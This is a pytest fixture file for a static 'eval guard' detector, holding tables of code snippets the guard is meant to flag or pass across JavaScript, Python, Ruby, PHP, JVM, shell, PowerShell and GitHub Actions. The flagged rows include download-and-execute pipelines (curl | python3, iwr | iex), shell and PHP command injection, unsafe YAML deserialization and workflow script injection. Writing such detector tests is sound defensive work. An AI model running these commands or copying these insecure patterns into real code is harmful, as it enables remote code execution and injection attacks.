"""Fixture tables for the eval guard's classes, each written from the rule that defines
it: ESLint no-eval / no-implied-eval / no-new-func, Semgrep's Python, JavaScript,
Ruby, PHP, JVM, shell and GitHub Actions rules, PSScriptAnalyzer
AvoidUsingInvokeExpression, GitHub's script-injection guidance and actionlint's
untrusted inputs. The silent rows hold the safe forms those rules name and ordinary
code of the kind real projects are made of."""

from __future__ import annotations

import pytest

from tests.guards.eval.test_eval import root  # noqa: F401  (the fixture)
from tests.guards.eval.test_eval import shell
from tests.guards.eval.test_eval import summary
from tests.guards.eval.test_eval import write

PUPPETEER = "const puppeteer = require('puppeteer');\n"
PLAYWRIGHT = "import { test } from '@playwright/test';\n"


def workflow(step: str) -> str:
    return (
        "on: [issues, pull_request_target]\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
        + step
    )


def github_script(code: str, action: str = "actions/github-script@v7") -> str:
    return workflow(f"      - uses: {action}\n        with:\n          script: {code}\n")


FIRING = [
    # JavaScript: eval reached another way (ESLint no-eval, indirect forms included)
    pytest.param(
        "a.js", "const run = eval;\nrun(src);\n", "eval (indirect)", "1", id="js-eval-alias"
    ),
    pytest.param("a.js", "(0, eval)(code);\n", "eval (indirect)", "1", id="js-eval-comma"),
    pytest.param(
        "a.js", "const r = (window?.eval)(s);\n", "eval (indirect)", "1", id="js-eval-optional"
    ),
    pytest.param("a.js", "apply(eval, [src]);\n", "eval (indirect)", "1", id="js-eval-as-argument"),
    pytest.param("a.js", "window['eval'](payload);\n", "eval", "1", id="js-eval-bracket"),
    pytest.param(
        "a.ts", "globalThis.eval(code);\n", "globalThis.eval", "1", id="ts-globalthis-eval"
    ),
    pytest.param(
        "a.js", "global.global.eval(x);\n", "global.global.eval", "1", id="js-global-chain"
    ),
    # the Function constructor is eval, whatever its arguments (ESLint no-new-func)
    pytest.param(
        "a.js",
        'const f = new Function("return 1");\n',
        "new Function",
        "1",
        id="js-new-function-literal",
    ),
    pytest.param(
        "a.js",
        "const f = Function('a', 'b', 'return a + b');\n",
        "new Function",
        "1",
        id="js-function-call",
    ),
    pytest.param(
        "a.js",
        "const f = Function.apply(null, parts);\n",
        "new Function",
        "1",
        id="js-function-apply",
    ),
    pytest.param(
        "a.js",
        "const f = Function.bind(null, 'a', body)();\n",
        "new Function",
        "1",
        id="js-function-bind",
    ),
    pytest.param(
        "a.mjs",
        "const f = new window.Function(src);\n",
        "new Function",
        "1",
        id="mjs-window-function",
    ),
    # a string given to a timer is evaluated, constant or not (ESLint no-implied-eval)
    pytest.param(
        "a.js", 'setTimeout("refresh()", 1000);\n', "setTimeout", "1", id="js-settimeout-literal"
    ),
    pytest.param(
        "a.js",
        "setInterval('poll(' + id + ')', 500);\n",
        "setInterval",
        "1",
        id="js-setinterval-concat",
    ),
    pytest.param(
        "a.js",
        "window.setTimeout('tick()', 10);\n",
        "window.setTimeout",
        "1",
        id="js-window-settimeout",
    ),
    pytest.param(
        "a.js",
        "window['setTimeout']('tick()', 0);\n",
        "setTimeout",
        "1",
        id="js-settimeout-bracket",
    ),
    pytest.param(
        "a.js", "setTimeout(name + '();', 0);\n", "setTimeout", "1", id="js-settimeout-join"
    ),
    pytest.param("a.js", "execScript('x = 1');\n", "execScript", "1", id="js-execscript"),
    pytest.param(
        "a.ts",
        "self.setInterval(`step(${n})`, 16);\n",
        "self.setInterval",
        "1",
        id="ts-self-setinterval",
    ),
    # browser automation evaluating code that is not a function (Semgrep puppeteer/playwright)
    pytest.param(
        "a.js",
        PUPPETEER + "await page.evaluate(req.body.script);\n",
        "page.evaluate(code)",
        "2",
        id="puppeteer-evaluate-value",
    ),
    pytest.param(
        "a.spec.ts",
        PLAYWRIGHT + "await page.evaluate(codeFromRequest, arg);\n",
        "page.evaluate(code)",
        "2",
        id="playwright-evaluate-value",
    ),
    pytest.param(
        "a.js",
        PUPPETEER + "await page.evaluateOnNewDocument(script);\n",
        "page.evaluate(code)",
        "2",
        id="puppeteer-on-new-document",
    ),
    pytest.param(
        "a.ts",
        PLAYWRIGHT + "await context.addInitScript(userScript);\n",
        "page.evaluate(code)",
        "2",
        id="playwright-add-init-script",
    ),
    # spawn with a shell (Semgrep spawn-shell-true: any value but false)
    pytest.param(
        "a.js",
        "spawn('ls', ['-lh', dir], {shell: true});\n",
        "spawn {shell: true}",
        "1",
        id="js-spawn-shell-literal",
    ),
    pytest.param(
        "a.js",
        "cp.spawnSync(cmd, { shell: '/bin/sh' });\n",
        "spawn {shell: true}",
        "1",
        id="js-spawnsync-shell-path",
    ),
    # Python
    pytest.param(
        "a.py",
        'from ruamel.yaml import YAML\nyaml = YAML(typ="unsafe")\n',
        "YAML(typ='unsafe')",
        "2",
        id="py-ruamel-unsafe",
    ),
    pytest.param(
        "a.py",
        "import ruamel.yaml\ny = ruamel.yaml.YAML(typ='base', pure=True)\n",
        "YAML(typ='unsafe')",
        "2",
        id="py-ruamel-base-dotted",
    ),
    pytest.param(
        "a.py",
        'action = request.args["action"]\nglobals()[action]()\n',
        "globals()[name]",
        "2",
        id="py-globals-dispatch",
    ),
    pytest.param(
        "a.py",
        "handler = globals().get(request.form['op'])\n",
        "globals()[name]",
        "1",
        id="py-globals-get-request",
    ),
    pytest.param(
        "a.py", "globals()[sys.argv[1]]()\n", "globals()[name]", "1", id="py-globals-argv"
    ),
    pytest.param("a.py", "locals()[cmd](*rest)\n", "globals()[name]", "1", id="py-locals-call"),
    pytest.param(
        "a.py", "run.__globals__[key](payload)\n", "globals()[name]", "1", id="py-dunder-globals"
    ),
    pytest.param(
        "a.py",
        '__import__("os").system(cmd)\n',
        '__import__("os").system',
        "1",
        id="py-import-os-system",
    ),
    pytest.param(
        "a.py",
        "__import__('subprocess').getoutput(cmd)\n",
        '__import__("subprocess").getoutput',
        "1",
        id="py-import-subprocess",
    ),
    pytest.param(
        "a.py", 'getattr(os, "system")(cmd)\n', 'getattr(os, "system")', "1", id="py-getattr-system"
    ),
    pytest.param(
        "a.py",
        "import _pickle as p\ndata = p.loads(blob)\n",
        "_pickle.loads",
        "2",
        id="py-alias-module",
    ),
    pytest.param(
        "a.py",
        "from pickle import loads as unpickle\nobj = unpickle(payload)\n",
        "pickle.loads",
        "2",
        id="py-alias-function",
    ),
    pytest.param(
        "a.py",
        "from yaml import (\n    load,\n    FullLoader,\n)\n"
        "cfg = load(stream, Loader=FullLoader)\n",
        "yaml.load",
        "5",
        id="py-alias-parenthesised",
    ),
    pytest.param(
        "a.py",
        "import marshal as m\ncode = m.loads(raw)\n",
        "marshal.loads",
        "2",
        id="py-alias-marshal",
    ),
    pytest.param(
        "a.py", "from os import system\nsystem(cmd)\n", "os.system", "2", id="py-from-os-system"
    ),
    pytest.param(
        "a.py",
        "import subprocess as sp\nout = sp.getoutput('ls ' + d)\n",
        "subprocess.getoutput",
        "2",
        id="py-alias-getoutput",
    ),
    pytest.param(
        "a.py",
        "from logging.config import listen\nt = listen(9999)\n",
        "logging.config.listen",
        "2",
        id="py-alias-listen",
    ),
    pytest.param(
        "a.py",
        "t, p = await loop.subprocess_shell(Proto, command)\n",
        "loop.subprocess_shell",
        "1",
        id="py-loop-subprocess-shell",
    ),
    pytest.param(
        "a.py",
        'yaml.load("!!python/object/new:os.system [id]", Loader=yaml.Loader)\n',
        "yaml.load",
        "1",
        id="py-yaml-constant-unsafe-loader",
    ),
    pytest.param(
        "a.py",
        "yaml.unsafe_load('!!python/name:x')\n",
        "yaml.unsafe_load",
        "1",
        id="py-yaml-unsafe-constant",
    ),
    pytest.param(
        "A.java",
        'Runtime.getRuntime().loadLibrary(String.format("%s.dll", input));\n',
        "loadLibrary(formatted name)",
        "1",
        id="java-load-library-formatted",
    ),
    pytest.param(
        "A.cs",
        "var s = new JavaScriptSerializer(resolver);\n",
        "JavaScriptSerializer(type resolver)",
        "1",
        id="cs-javascript-serializer-resolver",
    ),
    # a loader passed as a function: its arguments are not visible, so no constant exempts it
    pytest.param(
        "a.py", "objs = map(pickle.loads, blobs)\n", "pickle.loads", "1", id="py-pickle-reference"
    ),
    pytest.param(
        "a.py",
        "return checked_call(pickle.load, f)\n",
        "pickle.load",
        "1",
        id="py-pickle-load-reference",
    ),
    pytest.param("a.py", 'eval(f"""{quote}text""")\n', "eval", "1", id="py-triple-fstring"),
    # Ruby
    pytest.param(
        "a.rb",
        "%x{tar czf #{archive} #{dir}}\n",
        "backticks with interpolation",
        "1",
        id="rb-percent-x-braces",
    ),
    pytest.param(
        "a.rb",
        "out = %x(ls #{path})\n",
        "backticks with interpolation",
        "1",
        id="rb-percent-x-parens",
    ),
    pytest.param(
        "a.rb", "doc = YAML::load(params[:doc])\n", "YAML::load", "1", id="rb-yaml-colons"
    ),
    pytest.param(
        "a.rb", 'IO.popen("grep #{pattern} log")\n', "IO.popen", "1", id="rb-popen-string"
    ),
    # PHP
    pytest.param(
        "a.php",
        '<?php\nexec("convert " . $_GET["f"] . " out.png");\n',
        "exec",
        "2",
        id="php-exec-unescaped",
    ),
    pytest.param(
        "a.php",
        '<?php\nsystem("tar czf " . escapeshellarg($a) . " " . $dir);\n',
        "system",
        "2",
        id="php-one-argument-unescaped",
    ),
    # JVM
    pytest.param(
        "A.java",
        "GroovyShell shell = new GroovyShell();\nObject r = shell.evaluate(script);\n",
        "GroovyShell.evaluate",
        "2",
        id="java-groovy-evaluate",
    ),
    pytest.param(
        "A.java",
        "Class<?> c = new GroovyClassLoader().parseClass(source);\n",
        "GroovyShell.parseClass",
        "1",
        id="java-groovy-parse-class",
    ),
    pytest.param("A.groovy", "def r = Eval.me(expression)\n", "Eval.me", "1", id="groovy-eval-me"),
    pytest.param(
        "A.java",
        'Runtime rt = Runtime.getRuntime();\nrt.exec("sh -c " + cmd);\n',
        "Runtime.exec",
        "2",
        id="java-runtime-variable",
    ),
    pytest.param(
        "A.java",
        'Runtime.getRuntime().exec(new String[]{"bash", "-c", command});\n',
        "Runtime.exec",
        "1",
        id="java-runtime-bash-c-array",
    ),
    pytest.param(
        "A.kt",
        'Runtime.getRuntime().exec(arrayOf("sh", "-c", cmd))\n',
        "Runtime.exec",
        "1",
        id="kt-runtime-sh-c",
    ),
    pytest.param(
        "A.java",
        'ProcessBuilder pb = new ProcessBuilder();\npb.command("bash", "-c", userInput);\n',
        'ProcessBuilder(shell, "-c", ...)',
        "2",
        id="java-process-builder-command",
    ),
    # Shell files
    pytest.param(
        "i.sh",
        "curl -fsSL https://x/get.py | python3 -\n",
        "curl | python3",
        "1",
        id="sh-curl-python3",
    ),
    pytest.param(
        "i.sh", "wget -qO- https://x/setup.pl | perl\n", "wget | perl", "1", id="sh-wget-perl"
    ),
    pytest.param("i.sh", "curl -s https://x/i.js | node\n", "curl | node", "1", id="sh-curl-node"),
    pytest.param(
        "i.sh",
        "curl -sL https://x/i.rb | sudo ruby -w\n",
        "curl | ruby",
        "1",
        id="sh-curl-sudo-ruby",
    ),
    pytest.param(
        "i.sh",
        "curl -s https://x/i.py | python - --user\n",
        "curl | python",
        "1",
        id="sh-curl-python-dash",
    ),
    pytest.param(
        "i.sh",
        "python3 <(curl -s https://x/i.py)\n",
        "python3 <(curl ...)",
        "1",
        id="sh-python-process-sub",
    ),
    pytest.param("run.sh", '#!/bin/sh\nsh -c "$CMD"\n', 'sh -c "$CMD"', "2", id="sh-c-variable"),
    pytest.param("run.sh", 'bash -c "$1"\n', 'bash -c "$1"', "1", id="bash-c-positional"),
    pytest.param(
        "run.sh", 'bash -ec "${SCRIPT}"\n', 'bash -c "${SCRIPT}"', "1", id="bash-ec-braced"
    ),
    pytest.param(
        "Dockerfile", "RUN docker-entry sh -c $cmd\n", "sh -c $cmd", "1", id="dockerfile-sh-c-bare"
    ),
    # PowerShell files (PSScriptAnalyzer AvoidUsingInvokeExpression, downloads first)
    pytest.param(
        "i.ps1",
        "iwr https://x/install.ps1 -UseBasicParsing | iex\n",
        "iex (downloaded script)",
        "1",
        id="ps1-iwr-iex",
    ),
    pytest.param(
        "i.ps1",
        "Invoke-RestMethod https://x | Invoke-Expression\n",
        "iex (downloaded script)",
        "1",
        id="ps1-irm-full",
    ),
    pytest.param(
        "i.ps1",
        "IEX ((New-Object System.Net.WebClient).DownloadString('https://x'))\n",
        "iex (downloaded script)",
        "1",
        id="ps1-iex-double-paren",
    ),
    pytest.param(
        "i.ps1",
        "Invoke-Expression (Invoke-WebRequest -Uri $u).Content\n",
        "iex (downloaded script)",
        "1",
        id="ps1-invoke-expression-content",
    ),
    # GitHub Actions: attacker-writable contexts only
    pytest.param(
        ".github/workflows/a.yml",
        workflow('      - run: echo "${{ github.event.pull_request.title }}"\n'),
        "github.event.pull_request.title",
        "6",
        id="gha-pr-title",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        workflow("      - run: echo ${{ github.event.head_commit.message }}\n"),
        "github.event.head_commit.message",
        "6",
        id="gha-head-commit-message",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        workflow('      - run: echo "${{ github.event.commits[0].author.name }}"\n'),
        "github.event.commits[0].author.name",
        "6",
        id="gha-commit-author",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        workflow("      - run: |\n          echo '${{ github.event.review_comment.body }}'\n"),
        "github.event.review_comment.body",
        "7",
        id="gha-review-comment",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        workflow("      - run: git push origin ${{ github.event.pull_request.head.ref }}\n"),
        "github.event.pull_request.head.ref",
        "6",
        id="gha-head-ref-long",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        workflow('      - run: echo "${{ github.event.discussion.title }}"\n'),
        "github.event.discussion.title",
        "6",
        id="gha-discussion-title",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        workflow('      - run: echo "${{ github.event.pages[0].page_name }}"\n'),
        "github.event.pages[0].page_name",
        "6",
        id="gha-page-name",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        github_script("console.log('${{ github.event.issue.body }}')"),
        "github.event.issue.body",
        "8",
        id="gha-github-script",
    ),
]


@pytest.mark.parametrize(("name", "text", "primitive", "lines"), FIRING)
def test_firing(root, name, text, primitive, lines):  # noqa: F811
    assert summary(write(root, name, text)) == [(primitive, lines)]


SILENT = [
    # JavaScript
    pytest.param(
        "a.js", "setTimeout(() => tick(), 10);\nsetTimeout(tick, 10);\n", id="js-timer-functions"
    ),
    pytest.param(
        "a.js", "setInterval(function () { poll(); }, 500);\n", id="js-timer-function-expression"
    ),
    pytest.param("a.js", "const delay = setTimeout(done, ms * 2);\n", id="js-timer-expression"),
    pytest.param("a.js", "if (typeof eval === 'function') { ok(); }\n", id="js-typeof-eval"),
    pytest.param("a.js", "const ops = { eval: evaluate, parse };\n", id="js-eval-object-key"),
    pytest.param("a.js", "const r = math.evaluate(expr);\n", id="js-mathjs-evaluate"),
    pytest.param(
        "a.js",
        "const n = document.evaluate(xpath, document, null, XPathResult.ANY_TYPE, null);\n",
        id="js-xpath-evaluate",
    ),
    pytest.param("a.ts", "const loss = model.evaluate(xs, ys);\n", id="ts-tfjs-evaluate"),
    pytest.param(
        "a.js",
        PUPPETEER + "const t = await page.evaluate(() => document.title);\n",
        id="puppeteer-arrow",
    ),
    pytest.param(
        "a.js",
        PUPPETEER
        + "await page.evaluate(async (sel) => { document.querySelector(sel).click(); }, sel);\n",
        id="puppeteer-async-arrow",
    ),
    pytest.param(
        "a.js",
        PUPPETEER + "await page.evaluate(function () { return window.innerWidth; });\n",
        id="puppeteer-function",
    ),
    pytest.param(
        "a.js", PUPPETEER + "await page.evaluate('document.title');\n", id="puppeteer-constant"
    ),
    pytest.param(
        "a.ts",
        PLAYWRIGHT + "await page.addInitScript({ path: './preload.js' });\n",
        id="playwright-init-file",
    ),
    pytest.param(
        "a.js", "spawn('git', ['status'], { shell: false });\n", id="js-spawn-shell-false"
    ),
    pytest.param(
        "a.tsx",
        "class Evaluator {\n  eval(node: Node) {\n    return 1;\n  }\n}\n",
        id="ts-eval-method",
    ),
    pytest.param(
        "a.tsx",
        "useEffect(() => {\n  const id = setInterval(tick, 1000);\n"
        "  return () => clearInterval(id);\n}, []);\n",
        id="react-interval",
    ),
    pytest.param(
        "server.js",
        "app.post('/api', (req, res) => {\n  const body = JSON.parse(req.body);\n"
        "  const m = /\\d+/.exec(body.id);\n  setTimeout(() => res.end(), 100);\n});\n",
        id="express-handler",
    ),
    # Python
    pytest.param(
        "a.py",
        "yaml = YAML()\nfast = YAML(typ='safe', pure=True)\nrt = YAML(typ='rt')\n",
        id="py-ruamel-safe",
    ),
    pytest.param("a.py", "globals()[name] = value\nglobals()[key] += 1\n", id="py-globals-define"),
    pytest.param(
        "a.py", "__all__ = globals()['__all__']\nlocals().get('x')\n", id="py-globals-literal-key"
    ),
    pytest.param("a.py", "globals().update(namespace)\n", id="py-globals-update"),
    # module __getattr__ and tables of the module's own names (replayed site-packages)
    pytest.param(
        "a.py",
        "def __getattr__(name):\n    if name in _deprecated:\n        return globals()[name]\n"
        "    raise AttributeError(name)\n",
        id="py-module-getattr",
    ),
    pytest.param("a.py", "del globals()[name]\n", id="py-globals-del"),
    pytest.param("a.py", "return ''.join(globals()[cat] for cat in args)\n", id="py-globals-table"),
    pytest.param(
        "a.py", "refs = {k: func.__globals__[k] for k in names}\n", id="py-dunder-globals-read"
    ),
    pytest.param(
        "a.py", "from pickle import loads, dumps\nt = loads(dumps(s, proto))\n", id="py-round-trip"
    ),
    pytest.param("a.py", "copy = marshal.loads(marshal.dumps(code))\n", id="py-marshal-round-trip"),
    pytest.param("a.py", "eval(\"f'xx{value:{spec}}yy'\")\n", id="py-f-inside-string"),
    pytest.param(
        "a.py",
        "mod = __import__('importlib')\np = __import__('os').path.join(a, b)\n",
        id="py-import-literal",
    ),
    pytest.param("a.py", "import pickle as pkl\ndata = pkl.dumps(obj)\n", id="py-alias-dumps"),
    pytest.param(
        "a.py", "from yaml import safe_load as load\ncfg = load(f)\n", id="py-alias-safe-load"
    ),
    pytest.param("a.py", "from os import path\np = path.join(a, b)\n", id="py-from-os-path"),
    pytest.param(
        "a.py", "import subprocess as sp\nsp.run(['ls', d], check=True)\n", id="py-alias-argv"
    ),
    pytest.param("a.py", 'total = eval(f"1 + 2")\n', id="py-fstring-constant"),
    pytest.param(
        "train.py",
        "model.eval()\nwith torch.no_grad():\n    out = model(x)\n"
        "torch.save(model.state_dict(), path)\nsd = torch.load(path, weights_only=True)\n",
        id="py-torch-loop",
    ),
    pytest.param(
        "cli.py",
        "import ast\nimport re\n\nPATTERN = re.compile(r'^(\\w+)=(.*)$')\n\n"
        "def parse(value):\n    return ast.literal_eval(value)\n\n"
        "def load(f):\n    return yaml.safe_load(f)\n",
        id="py-cli-parsers",
    ),
    pytest.param(
        "version.py",
        "def head():\n    out = subprocess.run(\n        ['git', 'rev-parse', 'HEAD'],\n"
        "        capture_output=True, text=True, check=True,\n    )\n"
        "    return out.stdout.strip()\n",
        id="py-subprocess-argv-multiline",
    ),
    pytest.param(
        "metrics.py",
        "import evaluate\n\nmetric = evaluate.load('accuracy')\n"
        "score = metric.compute(predictions=p, references=r)\n",
        id="py-hf-evaluate",
    ),
    pytest.param(
        "views.py",
        "@app.route('/')\ndef index():\n    return render_template('index.html', items=items)\n",
        id="py-flask-render-template",
    ),
    pytest.param(
        "plugins.py", "mod = importlib.import_module('json')\n", id="py-import-module-literal"
    ),
    pytest.param("a.py", 'doc = yaml.load("a: 1")\n', id="py-yaml-constant-text"),
    pytest.param(
        "A.java",
        'XMLDecoder d = new XMLDecoder("<safe>XML</safe>");\n',
        id="java-xml-decoder-constant",
    ),
    pytest.param(
        "A.cs", "var s = new JavaScriptSerializer();\n", id="cs-javascript-serializer-plain"
    ),
    pytest.param(
        "A.java",
        'System.loadLibrary("native");\nSystem.loadLibrary(LIB_NAME);\n',
        id="java-load-library-name",
    ),
    # Ruby
    pytest.param("a.rb", "obj = YAML.load(data, safe: true)\n", id="rb-yaml-safe-true"),
    pytest.param(
        "a.rb", 'cfg = YAML.load(File.read("config/settings.yml"))\n', id="rb-yaml-constant-file"
    ),
    pytest.param("a.rb", "IO.popen(%w[git log --oneline] + args)\n", id="rb-popen-percent-w"),
    pytest.param("a.rb", 'IO.popen(["git", "log", path])\n', id="rb-popen-array"),
    pytest.param("a.rb", "names = %w[a b c]\nout = %x(ls)\n", id="rb-percent-literals"),
    pytest.param(
        "user.rb",
        "class User < ApplicationRecord\n  def settings\n"
        "    YAML.safe_load(File.read(path))\n  end\n\n"
        "  def rebuild\n    system('bundle', 'exec', 'rake', 'assets')\n  end\nend\n",
        id="rb-rails-model",
    ),
    # PHP
    pytest.param(
        "a.php",
        '<?php\nexec("convert " . escapeshellarg($in) . " " . escapeshellarg($out));\n',
        id="php-escapeshellarg",
    ),
    pytest.param("a.php", "<?php\n$files = shell_exec('ls -la');\n", id="php-literal-shell"),
    pytest.param("a.php", "<?php\n$empty = unserialize('a:0:{}');\n", id="php-unserialize-literal"),
    pytest.param(
        "repo.php",
        "<?php\n$stmt = $pdo->prepare('SELECT * FROM t WHERE id = ?');\n$stmt->execute([$id]);\n"
        "$data = json_decode($body, true);\n",
        id="php-pdo",
    ),
    # JVM, .NET, Go
    pytest.param(
        "A.java", 'Object r = new GroovyShell().evaluate("1 + 1");\n', id="java-groovy-constant"
    ),
    pytest.param(
        "A.java",
        'Runtime.getRuntime().exec(new String[]{"git", "status"});\n',
        id="java-runtime-argv",
    ),
    pytest.param("A.kt", 'Runtime.getRuntime().exec(arrayOf("ls", dir))\n', id="kt-runtime-argv"),
    pytest.param(
        "A.java", 'Process p = new ProcessBuilder("git", "log", path).start();\n', id="java-pb-argv"
    ),
    pytest.param(
        "A.java",
        "ObjectMapper mapper = new ObjectMapper();\nFoo f = mapper.readValue(json, Foo.class);\n",
        id="java-jackson-typed",
    ),
    pytest.param(
        "A.cs", "var foo = JsonSerializer.Deserialize<Foo>(json);\n", id="cs-system-text-json"
    ),
    pytest.param(
        "main.go",
        'cmd := exec.Command("git", "status")\n'
        "if err := cmd.Run(); err != nil {\n\treturn err\n}\n",
        id="go-argv",
    ),
    # Shell and containers
    pytest.param(
        "ci.sh",
        'set -euo pipefail\ncurl -fsSL -o tool.tar.gz "$URL"\n'
        "sha256sum -c tool.sha256\ntar xzf tool.tar.gz\n",
        id="sh-download-verify",
    ),
    pytest.param(
        "Dockerfile",
        "RUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n",
        id="dockerfile-apt",
    ),
    pytest.param(
        "i.sh", "curl -s https://api/x | python3 -m json.tool\n", id="sh-pipe-python-module"
    ),
    pytest.param(
        "i.sh",
        "curl -s https://api/x | python3 -c "
        "'import json,sys; print(json.load(sys.stdin)[\"v\"])'\n",
        id="sh-pipe-python-c",
    ),
    pytest.param(
        "i.sh",
        "curl -s https://x | node parse.js\ncurl -s https://x | perl -ne 'print if /v/'\n",
        id="sh-pipe-script-file",
    ),
    pytest.param(
        "i.sh",
        'bash -c "echo hello"\nsh -c \'cd /app && make\'\nbash script.sh "$ARG"\n',
        id="sh-c-constant",
    ),
    pytest.param(
        "i.sh", 'ssh -i key host\nzsh -c "$(dirname $0)/run"\n', id="sh-ssh-and-substitution"
    ),
    # PowerShell
    pytest.param(
        "i.ps1",
        "Invoke-WebRequest -Uri $u -OutFile install.ps1\nGet-FileHash install.ps1\n",
        id="ps1-download-to-file",
    ),
    pytest.param("i.ps1", "Invoke-Expression 'Get-Date'\n", id="ps1-invoke-constant"),
    # GitHub Actions: values nobody outside the repository writes
    pytest.param(
        ".github/workflows/a.yml",
        workflow('      - run: echo "${{ github.event_name }}"\n'),
        id="gha-event-name",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        workflow('      - run: curl -sSLO "${{ github.event.workflow_run.artifacts_url }}"\n'),
        id="gha-artifacts-url",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        workflow(
            '      - run: echo "${{ github.event.pull_request.number }}" "${{ github.sha }}"\n'
        ),
        id="gha-number-sha",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        workflow('      - run: echo "${{ github.event.pull_request.head.sha }}"\n'),
        id="gha-head-sha",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        workflow("      - run: echo \"${{ contains(github.event.issue.title, 'bug') }}\"\n"),
        id="gha-contains",
    ),
    pytest.param(
        ".github/workflows/a.yml",
        github_script("echo ${{ github.event.issue.title }}", action="other/action@v1"),
        id="gha-other-action-script-input",
    ),
]


@pytest.mark.parametrize(("name", "text"), SILENT)
def test_silent(root, name, text):  # noqa: F811
    assert write(root, name, text) == []


COMMANDS_FIRING = [
    pytest.param(
        "curl -fsSL https://x/install.py | python3 -",
        "bash",
        "curl | python3",
        id="curl-python3-dash",
    ),
    pytest.param(
        "curl -s https://x | python3 - --yes", "bash", "curl | python3", id="curl-python3-args"
    ),
    pytest.param("wget -O - https://x | perl", "bash", "wget | perl", id="wget-perl"),
    pytest.param("curl -s https://x/i.js | sudo node", "bash", "curl | node", id="curl-sudo-node"),
    pytest.param("curl -s https://x | tee log | bash", "bash", "curl | bash", id="curl-tee-bash"),
    pytest.param(
        "curl -sSL https://x/i.ps1 | pwsh -Command -", "bash", "curl | pwsh", id="curl-pwsh"
    ),
    pytest.param('bash -c "$CMD"', "bash", 'bash -c "$CMD"', id="bash-c-variable"),
    pytest.param("docker run --rm img sh -c $SCRIPT", "bash", "sh -c $SCRIPT", id="docker-sh-c"),
    pytest.param(
        'powershell -c "irm https://x/i.ps1 | iex"',
        "bash",
        "iex (downloaded script)",
        id="bash-powershell-irm-iex",
    ),
    pytest.param(
        'pwsh -Command "iex (iwr https://x).Content"',
        "bash",
        "iex (downloaded script)",
        id="bash-pwsh-iex-iwr",
    ),
    pytest.param(
        "iwr https://x/install.ps1 | iex", "powershell", "iex (downloaded script)", id="ps-iwr-iex"
    ),
    pytest.param(
        "IEX (New-Object Net.WebClient).DownloadString('https://x')",
        "powershell",
        "iex (downloaded script)",
        id="ps-webclient",
    ),
]


@pytest.mark.parametrize(("command", "kind", "primitive"), COMMANDS_FIRING)
def test_command_firing(command, kind, primitive):
    findings = shell(command, kind)
    assert [f.value_map()["primitive"] for f in findings] == [primitive]


COMMANDS_SILENT = [
    pytest.param("curl -s https://api/x | python3 -m json.tool", "bash", id="python-module"),
    pytest.param(
        "curl -s https://api/x | python3 -c 'import sys; print(sys.stdin.read())'",
        "bash",
        id="python-c",
    ),
    pytest.param("curl -s https://x | node parse.js", "bash", id="node-script"),
    pytest.param("curl -s https://x | perl -ne 'print if /v/'", "bash", id="perl-ne"),
    pytest.param("cat setup.py | python3 -", "bash", id="local-file-to-python"),
    pytest.param("python3 - <<'EOF'\nprint(1)\nEOF", "bash", id="python-heredoc"),
    pytest.param('bash -c "echo hello"', "bash", id="bash-c-constant"),
    pytest.param("sh -c 'cd /app && make'", "bash", id="sh-c-single-quoted"),
    pytest.param("ssh -i ~/.ssh/key host uptime", "bash", id="ssh"),
    pytest.param('echo "powershell -c irm x | iex"', "bash", id="echo-iex"),
    pytest.param("curl -fsSL https://x/i.ps1 -o i.ps1", "bash", id="download-ps1"),
    pytest.param("Invoke-WebRequest https://x -OutFile i.ps1", "powershell", id="ps-download-only"),
]


@pytest.mark.parametrize(("command", "kind"), COMMANDS_SILENT)
def test_command_silent(command, kind):
    assert shell(command, kind) == []
